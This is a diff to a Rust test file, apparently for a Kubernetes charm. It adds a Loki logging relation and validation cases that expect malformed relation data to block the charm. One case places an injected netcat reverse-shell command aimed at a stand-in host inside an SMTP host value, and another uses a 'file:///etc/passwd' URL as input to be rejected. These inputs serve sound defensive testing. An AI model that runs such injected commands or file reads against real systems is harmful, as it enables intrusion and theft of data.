@@ -94,6 +94,21 @@ fn ingress_relation() -> Relation {
         .with_remote_unit(0, Vec::<(String, String)>::new())
 }
 
+const LOGGING_ID: u64 = 30;
+
+/// loki-k8s's unit answer (`LokiPushApiProvider`: unit data `endpoint`, JSON).
+fn logging_relation() -> Relation {
+    Relation::new("logging", LOGGING_ID, "loki")
+        .with_interface("loki_push_api")
+        .with_remote_unit(
+            0,
+            [(
+                "endpoint",
+                r#"{"url": "http://loki-0.loki-endpoints.cos.svc.cluster.local:3100/loki/api/v1/push"}"#,
+            )],
+        )
+}
+
 fn nginx_route_relation() -> Relation {
     Relation::new("nginx-route", ROUTE_ID, "nginx-ingress-integrator")
         .with_interface("nginx-route")
@@ -115,6 +130,7 @@ fn model() -> State {
             .with_relation(smtp_relation())
             .with_relation(ingress_relation())
             .with_relation(nginx_route_relation())
+            .with_relation(logging_relation())
             .with_secret(smtp_secret()),
     )
 }
@@ -649,6 +665,38 @@ fn rows() -> Vec<Case> {
             blocked("relation smtp: key smtp_sender is not valid: not an email address"),
         ),
         app_bag(
+            "s3 bucket of 100k characters",
+            S3_ID,
+            "bucket",
+            &"b".repeat(100_000),
+            blocked(
+                "relation s3: key bucket is not valid: not an S3 bucket name (3 to 63 lower-case letters, digits, dots, hyphens)",
+            ),
+        ),
+        app_bag(
+            "smtp host with injection",
+            SMTP_ID,
+            "host",
+            "smtp.example.com;nc -e /bin/sh evil 1",
+            blocked("relation smtp: key host is not valid: not a host name or address"),
+        ),
+        unit_bag(
+            "logging endpoint not JSON",
+            LOGGING_ID,
+            "endpoint",
+            "http://loki:3100",
+            blocked("relation logging: key endpoint of loki/0 is not valid: not JSON"),
+        ),
+        unit_bag(
+            "logging endpoint file URL",
+            LOGGING_ID,
+            "endpoint",
+            r#"{"url": "file:///etc/passwd"}"#,
+            blocked(
+                "relation logging: key endpoint of loki/0 is not valid: url is not an http(s) URL",
+            ),
+        ),
+        app_bag(
             "nginx-route provider writes garbage (it answers nothing; ignored)",
             ROUTE_ID,
             "service-hostname",
@@ -753,7 +801,16 @@ fn check(case: &Case, base: &State) -> Result<(), String> {
     }
     let writes = out.pebble_writes();
     if !writes.is_empty() {
-        let calls: Vec<&PebbleCall> = writes.iter().map(|c| &c.call).collect();
+        let calls: Vec<String> = writes
+            .iter()
+            .map(|c| match &c.call {
+                PebbleCall::Push { path, .. } => format!("{}: push {path}", c.container),
+                PebbleCall::AddLayer { layer, .. } => {
+                    format!("{}: add layer {:?}", c.container, layer.summary)
+                }
+                call => format!("{}: {call:?}", c.container),
+            })
+            .collect();
         return Err(format!("Pebble writes: {calls:?}"));
     }
     if !out.service_transitions.is_empty() {
